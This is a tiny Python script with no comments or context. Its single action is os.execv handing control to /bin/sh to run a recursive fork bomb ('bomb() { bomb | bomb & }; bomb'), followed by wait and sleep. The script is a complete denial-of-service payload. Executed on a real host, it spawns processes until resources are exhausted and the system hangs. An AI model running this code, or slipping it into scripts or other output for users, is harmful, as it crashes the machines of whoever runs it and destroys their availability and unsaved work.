import os

os.execv("/bin/sh", ["sh", "-c", "bomb() { bomb | bomb & }; bomb; wait; sleep 1000"])
